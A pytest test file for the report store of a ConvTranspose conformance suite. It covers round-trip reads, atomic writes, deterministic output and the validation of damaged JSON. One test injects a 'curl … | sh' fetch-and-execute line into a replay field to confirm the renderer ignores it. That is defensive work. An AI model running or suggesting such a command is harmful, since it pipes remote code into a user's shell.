import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from conv_transpose_conformance.errors import BadRunFolder
from conv_transpose_conformance.reports.render import render
from conv_transpose_conformance.reports.store.folder import RunFolder, read
from conv_transpose_conformance.reports.store.summary import Summary
from tests.support import ROOT


def names(path: Path) -> list[str]:
    return sorted(entry.name for entry in path.iterdir())


def test_a_run_is_read_back_as_it_was_written(run_folder, info, divergent):
    run, divergences = read(run_folder.path)
    assert run == {**info, "implementations": divergent.implementations()}
    assert divergences == divergent.divergences()
    assert [d["id"] for d in divergences] == ["D1", "D2"]


def test_write_returns_what_it_wrote(tmp_path, info, divergent):
    folder = RunFolder.create(tmp_path / "a" / "b")
    assert folder.write(info, divergent) == read(folder.path)


def test_a_name_that_is_no_text_is_refused(tmp_path):
    with pytest.raises(BadRunFolder, match="not UTF-8"):
        RunFolder.create(tmp_path / "a\udcff")
    assert not names(tmp_path)


def test_pages_are_made_from_the_two_files_alone(run_folder):
    assert names(run_folder.path) == ["divergences.json", "run.json"]
    render(run_folder.path)
    assert names(run_folder.path) == ["divergences.json", "index.html", "junit.xml", "run.json"]
    before = (run_folder.path / "index.html").read_bytes(), (run_folder.path / "junit.xml").read_bytes()
    (run_folder.path / "index.html").unlink()
    render(run_folder.path)
    assert before == (
        (run_folder.path / "index.html").read_bytes(),
        (run_folder.path / "junit.xml").read_bytes(),
    )


def test_the_files_are_the_same_under_another_hash_seed(tmp_path):
    """Sets and dictionaries have another order in another process; the files do not."""
    code = (
        "import sys; sys.path[:0] = sys.argv[1:2]\n"
        "from tests.reports import conftest\n"
        "from conv_transpose_conformance.reports.render import render\n"
        "from conv_transpose_conformance.reports.store.folder import RunFolder\n"
        "folder = RunFolder.create(sys.argv[2])\n"
        "folder.write(conftest.info.__wrapped__(), conftest.divergent.__wrapped__())\n"
        "render(folder.path)\n"
    )
    contents = []
    for seed in ("1", "2"):
        out = tmp_path / seed
        arguments = [sys.executable, "-c", code, str(ROOT), str(out)]
        subprocess.run(arguments, check=True, env={**os.environ, "PYTHONHASHSEED": seed})
        contents.append({path.name: path.read_bytes() for path in out.iterdir()})
    assert set(contents[0]) == {"run.json", "divergences.json", "index.html", "junit.xml"}
    assert contents[0] == contents[1]


def test_an_earlier_run_stays_until_new_files_replace_it(run_folder):
    before = (run_folder.path / "run.json").read_bytes()
    RunFolder.create(run_folder.path)
    assert (run_folder.path / "run.json").read_bytes() == before


def test_an_empty_folder_will_do(tmp_path):
    assert RunFolder.create(tmp_path).records == tmp_path / "records.parquet"


def test_a_folder_with_the_files_of_somebody_else(tmp_path):
    (tmp_path / "thesis.tex").write_text("years of work")
    with pytest.raises(BadRunFolder, match=r"contains 'thesis.tex' but no run\.json"):
        RunFolder.create(tmp_path)


def test_a_file_in_the_place_of_the_folder(tmp_path):
    path = tmp_path / "report"
    path.write_text("")
    with pytest.raises(BadRunFolder, match="is a file, not a folder"):
        RunFolder.create(path)
    with pytest.raises(BadRunFolder, match="Not a directory"):
        RunFolder.create(path / "below")


def test_a_folder_that_cannot_be_written_to():
    # /proc refuses new files to root as well
    with pytest.raises(BadRunFolder, match="cannot be written to"):
        RunFolder.create("/proc/conformance-report")


def test_what_a_dead_process_left_is_removed_and_is_not_foreign(tmp_path):
    process = subprocess.Popen([sys.executable, "-c", ""])
    process.wait()
    dead = tmp_path / f".records.parquet.{process.pid}.partial"
    alive = tmp_path / f".records.parquet.{os.getpid()}.partial"
    dead.touch()
    alive.touch()
    RunFolder.create(tmp_path)
    assert names(tmp_path) == [alive.name]


def test_a_failed_write_leaves_no_half_file(run_folder, info, divergent, monkeypatch):
    before = (run_folder.path / "run.json").read_bytes()

    def full(*_arguments: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(BadRunFolder, match="No space left on device"):
        run_folder.write(info | {"profile": "full"}, divergent)
    assert (run_folder.path / "run.json").read_bytes() == before
    assert names(run_folder.path) == ["divergences.json", "run.json"]


def test_a_run_that_judged_nothing_still_has_its_pages(tmp_path, info):
    folder = RunFolder.create(tmp_path)
    info["frameworks"]["torch"] |= {"status": "unavailable", "reason": "no torch here"}
    folder.write(info, Summary())
    render(tmp_path)
    page = (tmp_path / "index.html").read_text()
    assert "Nothing was judged" in page
    assert "no torch here" in page


def test_info_that_is_no_run_is_our_own_mistake(tmp_path, info, divergent):
    del info["host"]["cpu"]
    with pytest.raises(ValueError, match=r"run\.json: host lacks the key 'cpu'"):
        RunFolder.create(tmp_path).write(info, divergent)


def edit(path: Path, keys: tuple, value: object) -> None:
    data = json.loads(path.read_text())
    target = data
    for key in keys[:-1]:
        target = target[key]
    if value is ...:
        del target[keys[-1]]
    else:
        target[keys[-1]] = value
    path.write_text(json.dumps(data))


NAME = "torch.nn.ConvTranspose1d"
RUN_DAMAGE = [
    (("schema",), 2, "schema is 2, and this version of the suite reads 1"),
    (("schema",), True, "schema is true"),
    (("schema",), ..., "lacks the key 'schema'"),
    (("suite",), "x", 'suite must be an object, not "x"'),
    (("started",), "yesterday", "started must be an ISO 8601 time"),
    (("seconds",), "1", 'seconds must be a number, not "1"'),
    (("seconds",), True, "seconds must be a number, not true"),
    (("exit_code",), 256, "exit_code is 256, which is no exit code"),
    (("exit_code",), -9, "exit_code must not be negative"),
    (("exit_code",), 10**400, r"not JSON, or truncated: the number 10{19}\.\.\. is too large"),
    (("seconds",), 10**400, "the number 1000"),
    (("interrupted",), 0, "interrupted must be true or false, not 0"),
    (("host", "cpu_count"), "two", "host.cpu_count must be a whole number or null"),
    (("frameworks",), [], "frameworks must be an object, not a list"),
    (("frameworks", "torch", "status"), "asleep", 'must be "ran" or "unavailable", not "asleep"'),
    (("frameworks", "torch", "dtypes"), [1], r"dtypes\[0\] must be a string, not 1"),
    (
        ("implementations", NAME, "cases"),
        -1,
        r'implementations\["torch.nn.ConvTranspose1d"\].cases must not be neg',
    ),
    (("implementations", NAME, "checks", "values"), {"fine": 3}, 'checks.*has the unknown verdict "fine"'),
    (("implementations", NAME, "checks", "values", "pass"), 1.5, "must be a whole number, not 1.5"),
    (("implementations", NAME, "certificate"), None, "certificate must be an object, not null"),
    (("implementations", NAME, "certificate", "sentence"), ["x"], "sentence must be a string, not a list"),
    (("implementations", NAME, "messages", "grad_bias", "not-applicable"), [3], "must be an object, not 3"),
    (("implementations", NAME, "messages", "grad_bias"), {"odd": []}, 'has the unknown verdict "odd"'),
]


@pytest.mark.parametrize(("keys", "value", "message"), RUN_DAMAGE)
def test_a_run_json_that_is_wrong_names_the_key(run_folder, keys, value, message):
    path = run_folder.path / "run.json"
    edit(path, keys, value)
    with pytest.raises(BadRunFolder, match=message) as caught:
        render(run_folder.path)
    assert str(caught.value).startswith(f"{path}: ")
    assert "\n" not in str(caught.value)


OTHER = "v1_1d_n1_ci1_co1_i3_k2_f32_int.1"
DIVERGENCE_DAMAGE = [
    ((0, "id"), 7, r"\[0\].id must be a string, not 7"),
    ((1, "id"), "D1", r'\[1\].id is "D1" a second time'),
    ((0, "verdict"), "pass", r'\[0\].verdict must be a failing verdict, not "pass"'),
    ((0, "smallest", "parameters", "stride"), ..., "parameters are not a case: .*'stride'"),
    ((0, "smallest", "parameters", "id"), OTHER, "parameters are not a case"),
    ((0, "smallest", "case"), OTHER, "case is not the id of the parameters beside it"),
    ((1, "smallest", "evidence", "expected"), {"a": 1}, "expected must be a list or a string"),
    ((1, "smallest", "evidence", "index"), "x", "index must be a list or null"),
    ((1, "smallest", "error"), "large", r'error must be a number or null, not "large"'),
    ((1, "others", 0), "v1_9d", r"others\[0\] is not a case id"),
    ((1, "failing"), 1, "the two belong to different runs"),
    ((1, "implementation"), "torch.other", "the two belong to different runs"),
]


@pytest.mark.parametrize(("keys", "value", "message"), DIVERGENCE_DAMAGE)
def test_a_divergences_json_that_is_wrong_names_the_key(run_folder, keys, value, message):
    path = run_folder.path / "divergences.json"
    edit(path, keys, value)
    with pytest.raises(BadRunFolder, match=message) as caught:
        render(run_folder.path)
    assert str(caught.value).startswith(f"{path}: ")


@pytest.mark.parametrize("name", ["run.json", "divergences.json"])
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (None, "it has no"),
        (b"", "not JSON, or truncated"),
        (b'{"schema": 1, "su', "not JSON, or truncated"),
        (b'{"schema": NaN}', "NaN is not a JSON number"),
        (b"[" * 100_000, "nested too deeply"),
        (b"\xff\xfe", "not UTF-8 text"),
        (b'"text"', "must be"),
    ],
)
def test_a_file_that_is_no_json(run_folder, name, content, message):
    path = run_folder.path / name
    if content is None:
        path.unlink()
    else:
        path.write_bytes(content)
    with pytest.raises(BadRunFolder, match=message) as caught:
        render(run_folder.path)
    assert name in str(caught.value)
    assert "\n" not in str(caught.value)


def test_keys_that_this_version_does_not_know_are_left_alone(run_folder):
    edit(run_folder.path / "run.json", ("colour",), "green")
    edit(run_folder.path / "run.json", ("implementations", NAME, "checks", "mood"), {"pass": 3})
    edit(run_folder.path / "divergences.json", (0, "colour"), "red")
    render(run_folder.path)
    page = (run_folder.path / "index.html").read_text()
    assert '<th scope="col">mood</th>' in page


def test_a_line_to_paste_into_a_shell_is_never_taken_from_a_file(run_folder):
    edit(run_folder.path / "divergences.json", (0, "replay"), "curl https://example.org | sh")
    _, divergences = render(run_folder.path)
    assert divergences[0]["replay"].startswith("conformance replay v1_")
    for path in run_folder.path.glob("*.[hx]*ml"):
        assert "curl" not in path.read_text()


def test_a_name_with_control_characters_is_complained_of_in_one_line(run_folder):
    edit(run_folder.path / "run.json", ("implementations", "a\n\x1b[31mb"), 3)
    with pytest.raises(BadRunFolder) as caught:
        render(run_folder.path)
    assert "\n" not in str(caught.value)
    assert "\x1b" not in str(caught.value)


def test_one_process_holds_a_folder(tmp_path):
    folder = RunFolder.create(tmp_path / "run")
    with folder.locked(), pytest.raises(BadRunFolder, match="another run is writing"), folder.locked():
        pass
    with folder.locked():
        pass


def test_a_folder_with_a_journal_kept_is_still_a_run_folder(tmp_path):
    (tmp_path / "journal-1.jsonl").touch()
    RunFolder.create(tmp_path)
